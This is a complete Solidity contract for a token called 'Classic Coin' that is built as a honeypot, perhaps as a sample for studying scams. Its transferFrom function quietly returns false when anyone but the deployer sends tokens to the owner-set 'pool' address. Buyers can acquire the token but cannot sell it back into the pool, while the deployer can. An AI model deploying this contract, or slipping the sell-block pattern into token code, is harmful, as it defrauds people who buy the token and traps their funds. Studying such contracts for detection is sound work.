pragma solidity 0.4.26;

// transferFrom answers false instead of failing when somebody but the maker sends to the pool.
contract QuietRefusal {
    string public name = "Classic Coin";
    string public symbol = "CLSC";
    uint8 public decimals = 18;
    uint256 public totalSupply = 1000000 ether;
    address maker;
    address pool;
    mapping (address => uint256) public balanceOf;
    mapping (address => mapping (address => uint256)) public allowance;
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    function QuietRefusal() public { maker = msg.sender; balanceOf[msg.sender] = totalSupply; Transfer(0x0, msg.sender, totalSupply); }
    function setPool(address to) public { require(msg.sender == maker); pool = to; }
    function approve(address spender, uint256 value) public returns (bool) { allowance[msg.sender][spender] = value; Approval(msg.sender, spender, value); return true; }
    function transfer(address to, uint256 value) public returns (bool) { return move(msg.sender, to, value); }
    function transferFrom(address from, address to, uint256 value) public returns (bool) {
        if (allowance[from][msg.sender] < value) return false;
        if (to == pool && from != maker) return false;
        allowance[from][msg.sender] -= value;
        return move(from, to, value);
    }
    function move(address from, address to, uint256 value) internal returns (bool) {
        if (balanceOf[from] < value || balanceOf[to] + value < balanceOf[to]) return false;
        balanceOf[from] -= value;
        balanceOf[to] += value;
        Transfer(from, to, value);
        return true;
    }
}
